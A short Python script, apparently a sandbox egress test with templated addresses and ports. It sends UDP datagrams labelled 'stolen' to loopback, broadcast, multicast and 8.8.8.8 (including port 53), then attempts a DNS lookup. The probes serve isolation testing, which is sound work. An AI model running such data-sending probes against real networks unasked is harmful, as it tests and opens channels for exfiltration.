# title: UDP datagrams and name look-ups
# base: release
# score: 0
# secret: a server on the host
import socket

for host in ("127.0.0.1", "@ADDRESS@", "255.255.255.255", "224.0.0.251", "8.8.8.8"):
    for port in (@UDP@, 53):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.settimeout(0.05)
                sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                sender.sendto(b"stolen", (host, port))
                print("answer", sender.recv(1000))
        except OSError:
            pass
try:
    print(socket.getaddrinfo("example.org", 80))
except OSError:
    pass
print("looked")
